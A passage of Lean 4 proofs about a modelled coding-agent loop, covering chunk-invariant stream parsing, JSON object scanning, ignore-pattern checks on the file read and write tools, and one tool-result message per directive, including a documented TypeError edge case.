    (a ++ b).getLast?.getD d = b.getLast?.getD (a.getLast?.getD d) := by
  cases b using List.reverseRecOn with
  | nil => simp
  | append_singleton b x => simp [← List.append_assoc]

/-- After the chunks read so far, which make up `text`, the variables of `processStream`
are those of one scan of `text`. -/
theorem foldl_processChunk (chunks : List JsString) :
    ∀ (text : JsString),
      chunks.foldl processChunk
          ⟨(text.foldl scanStep StreamScan.start).pending,
            ((text.foldl scanStep StreamScan.start).objects.filterMap progressOf).getLast?.getD
              (.str []),
            (text.foldl scanStep StreamScan.start).objects.filterMap progressOf⟩
        = ⟨((text ++ chunks.flatten).foldl scanStep StreamScan.start).pending,
            (((text ++ chunks.flatten).foldl scanStep StreamScan.start).objects.filterMap
              progressOf).getLast?.getD (.str []),
            ((text ++ chunks.flatten).foldl scanStep StreamScan.start).objects.filterMap
              progressOf⟩ := by
  induction chunks with
  | nil => intro text; simp
  | cons chunk rest ih =>
    intro text
    have hpend := foldl_scanStep_pending text 0 false false [] [] rfl
    have hsplit := foldl_scanStep_objects chunk
      (text.foldl scanStep StreamScan.start).braceCount
      (text.foldl scanStep StreamScan.start).inString
      (text.foldl scanStep StreamScan.start).escapeNext
      (text.foldl scanStep StreamScan.start).pending
      (text.foldl scanStep StreamScan.start).objects
    have hscan : ((text.foldl scanStep StreamScan.start).pending ++ chunk).foldl scanStep
        StreamScan.start
        = chunk.foldl scanStep { text.foldl scanStep StreamScan.start with objects := [] } := by
      rw [List.foldl_append]
      exact congrArg (fun s => chunk.foldl scanStep s) hpend
    have hnext : (text ++ chunk).foldl scanStep StreamScan.start
        = { chunk.foldl scanStep { text.foldl scanStep StreamScan.start with objects := [] } with
            objects := (text.foldl scanStep StreamScan.start).objects ++
              (chunk.foldl scanStep
                { text.foldl scanStep StreamScan.start with objects := [] }).objects } := by
      rw [List.foldl_append]
      exact hsplit
    have hstep : processChunk
        ⟨(text.foldl scanStep StreamScan.start).pending,
          ((text.foldl scanStep StreamScan.start).objects.filterMap progressOf).getLast?.getD
            (.str []),
          (text.foldl scanStep StreamScan.start).objects.filterMap progressOf⟩ chunk
        = ⟨((text ++ chunk).foldl scanStep StreamScan.start).pending,
            (((text ++ chunk).foldl scanStep StreamScan.start).objects.filterMap
              progressOf).getLast?.getD (.str []),
            ((text ++ chunk).foldl scanStep StreamScan.start).objects.filterMap progressOf⟩ := by
      simp only [processChunk]
      rw [hscan, hnext]
      simp only [List.filterMap_append, getLast?_append_getD]
    rw [List.foldl_cons, hstep, ih (text ++ chunk)]
    simp [List.append_assoc]

/-- What `processStream` gives is read off one scan of the whole text of the stream. -/
theorem processStream_eq_scan (chunks : List JsString) :
    processStream chunks
      = (((chunks.flatten.foldl scanStep StreamScan.start).objects.filterMap
            progressOf).getLast?.getD (.str []),
          (chunks.flatten.foldl scanStep StreamScan.start).objects.filterMap progressOf) := by
  have h := foldl_processChunk chunks []
  simp only [List.foldl_nil, List.nil_append] at h
  have hstart : (⟨[], .str [], []⟩ : StreamState)
      = ⟨StreamScan.start.pending,
          (StreamScan.start.objects.filterMap progressOf).getLast?.getD (.str []),
          StreamScan.start.objects.filterMap progressOf⟩ := rfl
  unfold processStream
  rw [hstart, h]

/-- C23: for every stream text and every way of cutting it into consecutive chunks,
`processStream` calls `onProgress` with the same values in the same order, and resolves
to the same final content, as for the whole text delivered as one chunk. -/
theorem processStream_chunks (chunks : List JsString) :
    processStream chunks = processStream [chunks.flatten] := by
  rw [processStream_eq_scan chunks, processStream_eq_scan [chunks.flatten]]
  simp

/-- The example of C23: the text `{"message":{"content":"ab"}}` cut at any two positions
gives one call of `onProgress`, with `ab`, and the final content `ab`. -/
theorem processStream_two_cuts (i j : Nat) :
    processStream
        [(u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").take i,
         ((u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").drop i).take j,
         ((u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").drop i).drop j]
      = (.str (u16 "ab"), [.str (u16 "ab")]) := by
  rw [processStream_eq_scan]
  have hflat : [(u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").take i,
         ((u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").drop i).take j,
         ((u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d").drop i).drop j].flatten
      = u16 "\x7b\"message\":\x7b\"content\":\"ab\"\x7d\x7d" := by
    simp only [List.flatten_cons, List.flatten_nil, List.append_nil, List.take_append_drop]
  rw [hflat]
  rfl

/-! ### C24: braces and quotes inside strings -/

theorem quiet_nil : Quiet [] := by
  intro b p o _; simp

theorem quiet_append {s t : JsString} (hs : Quiet s) (ht : Quiet t) : Quiet (s ++ t) := by
  intro b p o hb
  rw [List.foldl_append, hs b p o hb, ht b (p ++ s) o hb, List.append_assoc]

theorem quiet_unit {c : Nat} (h1 : c ≠ 34) (h2 : c ≠ 92) (h3 : c ≠ 123) (h4 : c ≠ 125) :
    Quiet [c] := by
  intro b p o _
  simp only [List.foldl_cons, List.foldl_nil]
  rw [scanStep_eq]
  simp [scanCloses, scanControl, h1, h2, h3, h4]

theorem quiet_plain : ∀ text : JsString,
    (∀ c ∈ text, c ≠ 34 ∧ c ≠ 92 ∧ c ≠ 123 ∧ c ≠ 125) → Quiet text := by
  intro text
  induction text with
  | nil => intro _; exact quiet_nil
  | cons c cs ih =>
    intro h
    obtain ⟨h1, h2, h3, h4⟩ := h c (by simp)
    exact quiet_append (s := [c]) (quiet_unit h1 h2 h3 h4)
      (ih fun x hx => h x (List.mem_cons_of_mem _ hx))

theorem inString_append {s t : JsString} (hs : InString s) (ht : InString t) :
    InString (s ++ t) := by
  intro b p o
  rw [List.foldl_append, hs b p o, ht b (p ++ s) o, List.append_assoc]

theorem inString_unit {c : Nat} (h1 : c ≠ 34) (h2 : c ≠ 92) : InString [c] := by
  intro b p o
  simp only [List.foldl_cons, List.foldl_nil]
  rw [scanStep_eq]
  simp [scanCloses, scanControl, h1, h2]

theorem inString_escape (c : Nat) : InString [92, c] := by
  intro b p o
  simp only [List.foldl_cons, List.foldl_nil]
  rw [scanStep_eq, scanStep_eq]
  simp [scanCloses, scanControl]

theorem hexDigit_plain (n : Nat) : hexDigit n ≠ 34 ∧ hexDigit n ≠ 92 := by
  unfold hexDigit
  split <;> omega

theorem inString_unicodeEscape (c : Nat) : InString (unicodeEscape c) := by
  have h : unicodeEscape c = [92, 117] ++ ([hexDigit (c / 4096 % 16)] ++
      ([hexDigit (c / 256 % 16)] ++ ([hexDigit (c / 16 % 16)] ++ [hexDigit (c % 16)]))) := rfl
  rw [h]
  exact inString_append (inString_escape 117)
    (inString_append (inString_unit (hexDigit_plain _).1 (hexDigit_plain _).2)
      (inString_append (inString_unit (hexDigit_plain _).1 (hexDigit_plain _).2)
        (inString_append (inString_unit (hexDigit_plain _).1 (hexDigit_plain _).2)
          (inString_unit (hexDigit_plain _).1 (hexDigit_plain _).2))))

theorem inString_quoteUnit (c : Nat) : InString (quoteUnit c) := by
  unfold quoteUnit
  split_ifs with h1 h2 h3 h4 h5 h6 h7 h8 h9
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_escape _
  · exact inString_unicodeEscape c
  · exact inString_unicodeEscape c
  · exact inString_unit h6 h7

theorem inString_quoteChars : ∀ (n : Nat) (s : JsString), s.length ≤ n →
    InString (quoteChars s) := by
  intro n
  induction n with
  | zero =>
    intro s hs
    have : s = [] := List.length_eq_zero.mp (Nat.le_zero.mp hs)
    subst this
    intro b p o; simp [quoteChars]
  | succ n ih =>
    intro s hs
    match s, hs with
    | [], _ => intro b p o; simp [quoteChars]
    | [c], _ => exact inString_quoteUnit c
    | c :: d :: rest, hs =>
      simp only [List.length_cons] at hs
      unfold quoteChars
      split_ifs with hpair
      · have hc1 : c ≠ 34 := by omega
        have hc2 : c ≠ 92 := by omega
        have hd1 : d ≠ 34 := by omega
        have hd2 : d ≠ 92 := by omega
        exact inString_append (s := [c]) (inString_unit hc1 hc2)
          (inString_append (s := [d]) (inString_unit hd1 hd2) (ih rest (by omega)))
      · exact inString_append (inString_quoteUnit c) (ih (d :: rest) (by simp; omega))

theorem quiet_quoteJson (s : JsString) : Quiet (quoteJson s) := by
  intro b p o _
  unfold quoteJson
  have hopen : scanStep ⟨b, false, false, p, o⟩ 34 = ⟨b, true, false, p ++ [34], o⟩ := by
    rw [scanStep_eq]; simp [scanCloses, scanControl]
  have hclose : ∀ q : JsString,
      scanStep ⟨b, true, false, q, o⟩ 34 = ⟨b, false, false, q ++ [34], o⟩ := by
    intro q; rw [scanStep_eq]; simp [scanCloses, scanControl]
  rw [List.foldl_cons, hopen, List.foldl_append,
    inString_quoteChars s.length s (Nat.le_refl _) b (p ++ [34]) o]
  simp only [List.foldl_cons, List.foldl_nil, hclose]
  simp

theorem digitsAux_units : ∀ (fuel n : Nat) (acc : List Nat),
    (∀ c ∈ acc, isNumberUnit c = true) → ∀ c ∈ digitsAux fuel n acc, isNumberUnit c = true := by
  intro fuel
  induction fuel with
  | zero => intro n acc h; simpa [digitsAux] using h
  | succ fuel ih =>
    intro n acc h
    unfold digitsAux
    split_ifs with hn
    · intro c hc
      rcases List.mem_cons.mp hc with rfl | hc
      · simp [isNumberUnit]; omega
      · exact h c hc
    · apply ih
      intro c hc
      rcases List.mem_cons.mp hc with rfl | hc
      · simp [isNumberUnit]; omega
      · exact h c hc

theorem natToDigits_units (n : Nat) : ∀ c ∈ natToDigits n, isNumberUnit c = true :=
  digitsAux_units (n + 1) n [] (by simp)

theorem layoutDecimal_units (digits : JsString) (k : Nat) (n : Int)
    (h : ∀ c ∈ digits, isNumberUnit c = true) :
    ∀ c ∈ layoutDecimal digits k n, isNumberUnit c = true := by
  have h48 : isNumberUnit 48 = true := by decide
  have h46 : isNumberUnit 46 = true := by decide
  unfold layoutDecimal
  split_ifs with h1 h2 h3 hk
  · intro c hc
    rcases List.mem_append.mp hc with hc | hc
    · exact h c hc
    · rw [List.eq_of_mem_replicate hc]; exact h48
  · intro c hc
    rcases List.mem_append.mp hc with hc | hc
    · exact h c (List.mem_of_mem_take hc)
    · rcases List.mem_cons.mp hc with rfl | hc
      · exact h46
      · exact h c (List.mem_of_mem_drop hc)
  · intro c hc
    rcases List.mem_cons.mp hc with rfl | hc
    · exact h48
    · rcases List.mem_cons.mp hc with rfl | hc
      · exact h46
      · rcases List.mem_append.mp hc with hc | hc
        · rw [List.eq_of_mem_replicate hc]; exact h48
        · exact h c hc
  · intro c hc
    simp only at hc
    rcases List.mem_append.mp hc with hc | hc
    · exact h c hc
    · rcases List.mem_cons.mp hc with rfl | hc
      · decide
      · rcases List.mem_cons.mp hc with rfl | hc
        · split <;> decide
        · exact natToDigits_units _ c hc
  · intro c hc
    simp only at hc
    rcases List.mem_append.mp hc with hc | hc
    · rcases List.mem_append.mp hc with hc | hc
      · exact h c (List.mem_of_mem_take hc)
      · rcases List.mem_cons.mp hc with rfl | hc
        · exact h46
        · exact h c (List.mem_of_mem_drop hc)
    · rcases List.mem_cons.mp hc with rfl | hc
      · decide
      · rcases List.mem_cons.mp hc with rfl | hc
        · split <;> decide
        · exact natToDigits_units _ c hc

theorem toJsString_units (x : Num) (s : JsString) (h : x.toJsString = some s) :
    ∀ c ∈ s, isNumberUnit c = true := by
  cases x with
  | zero neg =>
    simp only [Num.toJsString, Option.some.injEq] at h
    subst h
    decide
  | inf neg => simp [Num.toJsString] at h
  | fin neg m e =>
    simp only [Num.toJsString, Option.some.injEq] at h
    subst h
    have hbody : ∀ c ∈ (match shortestDigits (Num.fin false m e) (scale2 m 1 (-e)).1
          (scale2 m 1 (-e)).2 (decimalExponent (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2)
          (List.range' 1 17) with
        | some (k, s, n) => layoutDecimal (natToDigits s) k n
        | none => layoutDecimal (natToDigits (roundHalfEven
            (scale10 (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2
              (17 - decimalExponent (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2)).1
            (scale10 (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2
              (17 - decimalExponent (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2)).2)) 17
            (decimalExponent (scale2 m 1 (-e)).1 (scale2 m 1 (-e)).2)),
        isNumberUnit c = true := by
      split
      · exact layoutDecimal_units _ _ _ (natToDigits_units _)
      · exact layoutDecimal_units _ _ _ (natToDigits_units _)
    intro c hc
    split_ifs at hc
    · rcases List.mem_cons.mp hc with rfl | hc
      · decide
      · exact hbody c hc
    · exact hbody c hc

theorem quiet_units (text : JsString) (h : ∀ c ∈ text, isNumberUnit c = true) : Quiet text := by
  apply quiet_plain
  intro c hc
  have := h c hc
  simp only [isNumberUnit, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq,
    beq_iff_eq] at this
  omega

mutual
/-- Inside a brace, the scanner reads the serialization of a value without finding the
end of an object. -/
theorem quiet_stringify : (v : Json) → Quiet (JSON.stringify v)
  | .null => quiet_plain _ (by decide)
  | .bool true => quiet_plain _ (by decide)
  | .bool false => quiet_plain _ (by decide)
  | .num x => by
    unfold JSON.stringify
    cases h : x.toJsString with
    | none => exact quiet_plain _ (by decide)
    | some s => exact quiet_units s (toJsString_units x s h)
  | .str s => by unfold JSON.stringify; exact quiet_quoteJson s
  | .arr xs => by
    unfold JSON.stringify
    exact quiet_append (s := [91]) (quiet_plain _ (by decide))
      (quiet_append (quiet_elements xs) (quiet_plain _ (by decide)))
  | .obj kvs => by
    unfold JSON.stringify
    intro b p o hb
    have hopen : scanStep ⟨b, false, false, p, o⟩ 123 = ⟨b + 1, false, false, p ++ [123], o⟩ := by
      rw [scanStep_eq]; simp [scanCloses, scanControl]
    have hclose : ∀ q : JsString,
        scanStep ⟨b + 1, false, false, q, o⟩ 125 = ⟨b, false, false, q ++ [125], o⟩ := by
      intro q
      rw [scanStep_eq]
      have hb0 : ¬ b = 0 := by omega
      simp [scanCloses, scanControl, hb0]
    rw [List.foldl_cons, hopen, List.foldl_append,
      quiet_members kvs (b + 1) (p ++ [123]) o (by omega)]
    simp only [List.foldl_cons, List.foldl_nil, hclose]
    simp
theorem quiet_elements : (xs : List Json) → Quiet (stringifyElements xs)
  | [] => by unfold stringifyElements; exact quiet_nil
  | [x] => by unfold stringifyElements; exact quiet_stringify x
  | x :: y :: rest => by
    unfold stringifyElements
    exact quiet_append (quiet_stringify x)
      (quiet_append (s := [44]) (quiet_plain _ (by decide)) (quiet_elements (y :: rest)))
theorem quiet_members : (kvs : List (JsString × Json)) → Quiet (stringifyMembers kvs)
  | [] => by unfold stringifyMembers; exact quiet_nil
  | [(k, v)] => by
    unfold stringifyMembers
    exact quiet_append (quiet_quoteJson k)
      (quiet_append (s := [58]) (quiet_plain _ (by decide)) (quiet_stringify v))
  | (k, v) :: m :: rest => by
    unfold stringifyMembers
    have h : quoteJson k ++ 58 :: JSON.stringify v ++ 44 :: stringifyMembers (m :: rest)
        = quoteJson k ++ ([58] ++ (JSON.stringify v ++ ([44] ++ stringifyMembers (m :: rest)))) := by
      simp
    rw [h]
    exact quiet_append (quiet_quoteJson k)
      (quiet_append (quiet_plain _ (by decide))
        (quiet_append (quiet_stringify v)
          (quiet_append (quiet_plain _ (by decide)) (quiet_members (m :: rest)))))
end

/-- C24: for every object, the scanner finds in its serialization `JSON.stringify(v)`
exactly one complete object, the whole text: the object ends at the last `}` and not
before, whatever braces, escaped quotes and escaped backslashes its strings hold, and
nothing is left pending. -/
theorem scan_stringify_object (kvs : List (JsString × Json)) :
    (JSON.stringify (.obj kvs)).foldl scanStep StreamScan.start
      = ⟨0, false, false, [], [JSON.stringify (.obj kvs)]⟩ := by
  unfold JSON.stringify StreamScan.start
  have hopen : scanStep ⟨0, false, false, [], []⟩ 123 = ⟨1, false, false, [123], []⟩ := by
    rw [scanStep_eq]; simp [scanCloses, scanControl]
  have hclose : ∀ q : JsString,
      scanStep ⟨1, false, false, q, []⟩ 125 = ⟨0, false, false, [], [q ++ [125]]⟩ := by
    intro q
    rw [scanStep_eq]
    simp [scanCloses]
  rw [List.foldl_cons, hopen, List.foldl_append,
    quiet_members kvs 1 [123] [] (by omega)]
  simp only [List.foldl_cons, List.foldl_nil, hclose]
  simp

/-! ### C25: the values given to the progress callback -/

/-- C25, evaluated on the code: for the stream of the two complete objects
`{"message":{"content":"Hel"}}` and `{"message":{"content":"lo"}}`, each followed by a
line feed, `onProgress` is called with `Hel` and then with `lo`, and the final content is
`lo`: `fullResponse` is assigned the content of the last object, not the text `Hello`
read so far. -/
theorem processStream_last_content :
    processStream [u16 ("\x7b\"message\":\x7b\"content\":\"Hel\"\x7d\x7d\n" ++
        "\x7b\"message\":\x7b\"content\":\"lo\"\x7d\x7d\n")]
      = (.str (u16 "lo"), [.str (u16 "Hel"), .str (u16 "lo")]) := by
  rfl

/-! ### C26: the ignore patterns -/

theorem matchingIgnorePattern_some {filePath pattern : JsString} :
    ∀ {patterns : List JsString}, matchingIgnorePattern filePath patterns = some pattern →
      pattern ∈ patterns ∧ includes filePath (pattern.filter (· ≠ 42)) = true := by
  intro patterns
  induction patterns with
  | nil => intro h; simp [matchingIgnorePattern] at h
  | cons q rest ih =>
    intro h
    by_cases hq : includes filePath (q.filter (· ≠ 42)) = true
    · rw [matchingIgnorePattern, if_pos hq] at h
      simp only [Option.some.injEq] at h
      subst h
      exact ⟨by simp, hq⟩
    · rw [matchingIgnorePattern, if_neg hq] at h
      have := ih h
      exact ⟨List.mem_cons_of_mem _ this.1, this.2⟩

theorem matchingIgnorePattern_none {filePath : JsString} :
    ∀ {patterns : List JsString}, matchingIgnorePattern filePath patterns = none →
      ∀ pattern ∈ patterns, includes filePath (pattern.filter (· ≠ 42)) = false := by
  intro patterns
  induction patterns with
  | nil => intro _ pattern hp; simp at hp
  | cons q rest ih =>
    intro h pattern hp
    by_cases hq : includes filePath (q.filter (· ≠ 42)) = true
    · rw [matchingIgnorePattern, if_pos hq] at h
      exact absurd h (by simp)
    · rw [matchingIgnorePattern, if_neg hq] at h
      rcases List.mem_cons.mp hp with rfl | hp
      · simpa using hq
      · exact ih h pattern hp

theorem disk_log_ne {σ : Type} (d : Disk σ) (calls : List FsCall) (hc : calls ≠ []) (st : σ) :
    (⟨st, d.calls ++ calls⟩ : Disk σ) ≠ d := by
  intro h
  have hcalls := congrArg Disk.calls h
  simp only at hcalls
  have hlen := congrArg List.length hcalls
  simp only [List.length_append] at hlen
  have : calls.length = 0 := by omega
  exact hc (List.length_eq_zero.mp this)

/-- C26: for a path that passes the working-directory check, `fileReadTool` fails with the
matches-ignore-pattern error, having made no call of the file system, if and only if some
pattern of the ruleset, with every `*` removed, occurs in the resolved path; the same
holds for `fileWriteTool` when a `content` is supplied; and the result of `fileEditTool`
is the same under every ruleset. -/
theorem ignorePatterns_read_write_edit {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json) (p : JsString)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true) :
    ((∃ pattern : JsString, fileReadTool fs env d args
        = (.thrown (.error (u16 "Path matches ignore pattern: " ++ pattern)), d)) ↔
      ∃ pattern ∈ env.ignorePatterns,
        includes (path.resolve env.cwd p) (pattern.filter (· ≠ 42)) = true) ∧
    ((args.get (u16 "content")).isSome = true →
      ((∃ pattern : JsString, fileWriteTool fs env d args
          = (.thrown (.error (u16 "Path matches ignore pattern: " ++ pattern)), d)) ↔
        ∃ pattern ∈ env.ignorePatterns,
          includes (path.resolve env.cwd p) (pattern.filter (· ≠ 42)) = true)) ∧
    (∀ ignorePatterns : List JsString,
      fileEditTool fs ⟨env.cwd, ignorePatterns⟩ d args = fileEditTool fs env d args) := by
  have hnull := get_isNull hpath
  have htruthy : truthyOpt (some (Json.str p)) = true := by
    simp [truthyOpt, Json.truthy, hp]
  have hnone : (stripPrefix env.cwd (path.resolve env.cwd p)).isNone = false := by
    cases h : stripPrefix env.cwd (path.resolve env.cwd p) with
    | none => rw [h] at hinside; simp at hinside
    | some r => rfl
  refine ⟨?_, ?_, ?_⟩
  · unfold fileReadTool
    rw [hnull, hpath, htruthy]
    simp only [Bool.false_eq_true, if_false, Bool.not_true, hnone]
    cases hm : matchingIgnorePattern (path.resolve env.cwd p) env.ignorePatterns with
    | some q =>
      simp only []
      constructor
      · intro _
        exact ⟨q, matchingIgnorePattern_some hm⟩
      · intro _
        exact ⟨q, rfl⟩
    | none =>
      simp only []
      constructor
      · rintro ⟨pattern, h⟩
        exfalso
        have hd := congrArg Prod.snd h
        revert hd
        cases fs.access d.state (path.resolve env.cwd p) with
        | error e => intro hd; exact disk_log_ne d [_] (by simp) d.state hd
        | ok u =>
          cases fs.readFile d.state (path.resolve env.cwd p) with
          | error e =>
            intro hd
            exact disk_log_ne d [_, _] (by simp) d.state (by simpa [Disk.log] using hd)
          | ok content =>
            intro hd
            exact disk_log_ne d [_, _] (by simp) d.state (by simpa [Disk.log] using hd)
      · rintro ⟨pattern, hmem, hinc⟩
        rw [matchingIgnorePattern_none hm pattern hmem] at hinc
        exact absurd hinc (by decide)
  · intro hcontent
    have hcn : (args.get (u16 "content")).isNone = false := by
      cases hg : args.get (u16 "content") with
      | none => rw [hg] at hcontent; simp at hcontent
      | some v => rfl
    unfold fileWriteTool
    rw [hnull, hpath, htruthy, hcn]
    simp only [Bool.false_eq_true, if_false, Bool.not_true, hnone]
    cases hm : matchingIgnorePattern (path.resolve env.cwd p) env.ignorePatterns with
    | some q =>
      simp only []
      constructor
      · intro _
        exact ⟨q, matchingIgnorePattern_some hm⟩
      · intro _
        exact ⟨q, rfl⟩
    | none =>
      simp only []
      constructor
      · rintro ⟨pattern, h⟩
        exfalso
        have hd := congrArg Prod.snd h
        revert hd
        cases fs.mkdir d.state (path.dirname (path.resolve env.cwd p)) with
        | error e =>
          intro hd
          exact disk_log_ne d [_] (by simp) d.state hd
        | ok st1 =>
          simp only []
          cases args.get (u16 "content") with
          | none => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
          | some v =>
            cases v with
            | str content =>
              simp only []
              by_cases ha : truthyOpt (args.get (u16 "append")) = true
              · rw [if_pos ha]
                cases fs.appendFile st1 (path.resolve env.cwd p) content with
                | error e =>
                  intro hd
                  exact disk_log_ne d [_, _] (by simp) st1 (by simpa [Disk.log] using hd)
                | ok st2 =>
                  intro hd
                  exact disk_log_ne d [_, _] (by simp) st2 (by simpa [Disk.log] using hd)
              · rw [if_neg ha]
                cases fs.writeFile st1 (path.resolve env.cwd p) content with
                | error e =>
                  intro hd
                  exact disk_log_ne d [_, _] (by simp) st1 (by simpa [Disk.log] using hd)
                | ok st2 =>
                  intro hd
                  exact disk_log_ne d [_, _] (by simp) st2 (by simpa [Disk.log] using hd)
            | null => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
            | bool b => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
            | num n => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
            | arr xs => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
            | obj kvs => intro hd; exact disk_log_ne d [_] (by simp) st1 hd
      · rintro ⟨pattern, hmem, hinc⟩
        rw [matchingIgnorePattern_none hm pattern hmem] at hinc
        exact absurd hinc (by decide)
  · intro ignorePatterns
    rfl

/-- Witness of `ignorePatterns_read_write_edit`: the file `node_modules/x.js` under the
patterns of the default configuration is not read. -/
theorem ignorePatterns_read_write_edit_witness :
    ∃ pattern : JsString, fileReadTool memFs
        ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj/node_modules/x.js", u16 "x")], []⟩
        (.obj [(u16 "path", .str (u16 "node_modules/x.js"))])
      = (.thrown (.error (u16 "Path matches ignore pattern: " ++ pattern)),
          ⟨[(u16 "/home/user/proj/node_modules/x.js", u16 "x")], []⟩) :=
  (ignorePatterns_read_write_edit memFs
    ⟨u16 "/home/user/proj", [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
    ⟨[(u16 "/home/user/proj/node_modules/x.js", u16 "x")], []⟩
    (.obj [(u16 "path", .str (u16 "node_modules/x.js"))]) (u16 "node_modules/x.js")
    (by rfl) (by decide) (by rfl)).1.mpr ⟨u16 "node_modules", by decide, by rfl⟩

/-! ### C27: one message for every directive -/

theorem runToolCalls_events (env : Surroundings) (followup : Session → LoopEnd)
    (hf : ∀ s : Session, ∃ later, (followup s).session.events = s.events ++ later) :
    ∀ (toolCalls : List ToolCall) (s : Session),
      ∃ later, (runToolCalls env followup s toolCalls).session.events = s.events ++ later := by
  intro toolCalls
  induction toolCalls with
  | nil => intro s; exact ⟨[], by simp [runToolCalls, LoopEnd.session]⟩
  | cons toolCall rest ih =>
    intro s
    have hone : ∀ r, runToolCall env followup s toolCall = some r →
        ∃ later, r.session.events = s.events ++ later := by
      intro r hr
      unfold runToolCall at hr
      cases hname : toolCall.name.toDisplay with
      | none => rw [hname] at hr; simp at hr
      | some name =>
        rw [hname] at hr
        simp only [] at hr
        cases hexec : executeToolCommand (env.handlers s.world) s.world toolCall
            (env.answer s.world toolCall) with
        | mk outcome w =>
          rw [hexec] at hr
          cases outcome with
          | returned result =>
            simp only [Option.some.injEq] at hr
            obtain ⟨later, hl⟩ := hf ⟨s.conversation ++ [toolResultMessage name result], w,
              s.events ++ [.execute toolCall]⟩
            rw [← hr, hl]
            exact ⟨.execute toolCall :: later, by simp⟩
          | thrown t =>
            simp only [Option.some.injEq] at hr
            obtain ⟨later, hl⟩ := hf ⟨s.conversation ++
              [toolFailureMessage name (t.message env.engineMessage)], w,
              s.events ++ [.execute toolCall]⟩
            rw [← hr, hl]
            exact ⟨.execute toolCall :: later, by simp⟩
          | unmodelled =>
            simp only [Option.some.injEq] at hr
            rw [← hr]
            exact ⟨[.execute toolCall], rfl⟩
    unfold runToolCalls
    cases hrun : runToolCall env followup s toolCall with
    | none => exact ⟨[], by simp [LoopEnd.session]⟩
    | some r =>
      obtain ⟨later, hl⟩ := hone r hrun
      cases r with
      | finished s1 =>
        simp only []
        obtain ⟨later2, hl2⟩ := ih s1
        simp only [LoopEnd.session] at hl
        rw [hl2, hl]
        exact ⟨later ++ later2, by simp⟩
      | unmodelled s1 =>
        simp only [LoopEnd.session] at hl ⊢
        exact ⟨later, hl⟩

theorem exchange_events (env : Surroundings) (followup : Session → LoopEnd)
    (hf : ∀ s : Session, ∃ later, (followup s).session.events = s.events ++ later)
    (s : Session) :
    ∃ later, (exchange env followup s).session.events
      = s.events ++ .chat (systemMessage env.cwd :: s.conversation) :: later := by
  unfold exchange
  cases env.model (chatCount s.events) (systemMessage env.cwd :: s.conversation) with
  | error m => exact ⟨[], rfl⟩
  | ok chunks =>
    simp only []
    cases (processStream chunks).2.getLast?.getD (.str []) with
    | str response =>
      simp only []
      obtain ⟨later, hl⟩ := runToolCalls_events env followup hf (parseToolCalls response)
        ⟨s.conversation ++ [⟨u16 "assistant", response⟩], s.world,
          s.events ++ [.chat (systemMessage env.cwd :: s.conversation)]⟩
      exact ⟨later, by rw [hl]; simp⟩
    | null => exact ⟨[], rfl⟩
    | bool b => exact ⟨[], rfl⟩
    | num n => exact ⟨[], rfl⟩
    | arr xs => exact ⟨[], rfl⟩
    | obj kvs => exact ⟨[], rfl⟩

theorem processFollowup_events (env : Surroundings) :
    ∀ (bound : Nat) (s : Session),
      ∃ later, (processFollowup env bound s).session.events = s.events ++ later := by
  intro bound
  induction bound with
  | zero => intro s; exact ⟨[], by simp [processFollowup, LoopEnd.session]⟩
  | succ bound ih =>
    intro s
    obtain ⟨later, hl⟩ := exchange_events env (processFollowup env bound) ih s
    exact ⟨_, hl⟩

/-- C27 as stated fails for a directive whose name does not convert to a string. The
response holds one fenced block with the name `{"toString":1}`, which `parseToolCalls`
returns as a directive; the template literal of `spinner.start` throws a `TypeError`
before the `try` block around `executeToolCommand`, the `catch` clause of `processQuery`
ends the loop, and the conversation holds the query and the response and nothing else:
no user-role message for the directive, and one exchange with the model only. -/
theorem processQuery_name_without_string :
    parseToolCalls
        (u16 "```json\n\x7b\"name\":\x7b\"toString\":1\x7d,\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```")
      = [⟨.obj [(u16 "toString", .num (Num.ofDecimal false 1 0))],
          .obj [(u16 "path", .str (u16 "."))]⟩] ∧
    processQuery
        ⟨u16 "/home/user/proj",
          fun _ _ => .ok [JSON.stringify (.obj [(u16 "message", .obj [(u16 "content", .str
            (u16 "```json\n\x7b\"name\":\x7b\"toString\":1\x7d,\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```"))])])],
          fun _ _ => ⟨true, .none⟩, fun _ _ _ => .ok .null, fun _ => []⟩
        3 (u16 "list the files") ⟨[], ⟨[], none, [], []⟩, []⟩
      = .finished
          ⟨[⟨u16 "user", u16 "list the files"⟩,
            ⟨u16 "assistant",
              u16 "```json\n\x7b\"name\":\x7b\"toString\":1\x7d,\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```"⟩],
           ⟨[], none, [], []⟩,
           [.chat [systemMessage (u16 "/home/user/proj"), ⟨u16 "user", u16 "list the files"⟩]]⟩ :=
  ⟨by rfl, by rfl⟩

/-- C27, amended: for every directive whose name converts to a string, the body of the
loop over the directives (in `processQuery` as in `processFollowup`) calls
`executeToolCommand`, appends exactly one user-role message, `Tool result for <name>`
with the result when the call returns and `Tool <name> failed with error: <message>` when
it throws, and then starts the follow-up with the conversation so extended; no exception
